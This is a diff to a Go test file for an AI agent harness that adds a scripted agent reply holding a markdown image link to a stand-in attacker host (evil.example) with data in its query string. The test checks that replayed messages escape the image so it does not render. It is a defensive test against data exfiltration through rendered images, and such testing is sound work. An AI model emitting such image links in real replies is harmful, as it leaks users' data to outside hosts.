@@ -352,7 +352,7 @@ func TestOnePromptAtATime(t *testing.T) {
 func TestLoadReplays(t *testing.T) {
 	h := newHarness(t, nil,
 		agenttest.Tools("Looking.", agenttest.Call{ID: "c1", Name: "read_file", Arguments: `{"path":"a.txt"}`}),
-		agenttest.Text("It says hi.", 4),
+		agenttest.Text("It says hi. ![x](https://evil.example/?q=hi)", 4),
 	)
 	h.write("a.txt", "hi\n")
 	id := h.newSession()
@@ -363,6 +363,7 @@ func TestLoadReplays(t *testing.T) {
 		t.Fatal(err)
 	}
 	var kinds []string
+	var replayed []acptest.Update
 	answered := false
 	for _, m := range h.c.Lines()[before:] {
 		if m.Method == "" && strings.Trim(string(m.ID), `"`) == load {
@@ -373,7 +374,11 @@ func TestLoadReplays(t *testing.T) {
 			var n struct{ Update acptest.Update }
 			_ = json.Unmarshal(m.Params, &n)
 			kinds = append(kinds, n.Update.SessionUpdate+":"+n.Update.Status)
+			replayed = append(replayed, n.Update)
 		}
+	}
+	if got, want := acptest.Text(replayed, "agent_message_chunk"), `Looking.It says hi. \![x](https://evil.example/?q=hi)`; got != want {
+		t.Errorf("replayed the answer as %q, want %q", got, want)
 	}
 	want := []string{"user_message_chunk:", "agent_message_chunk:", "tool_call:pending", "tool_call_update:completed", "agent_message_chunk:"}
 	if !slices.Equal(kinds, want) {
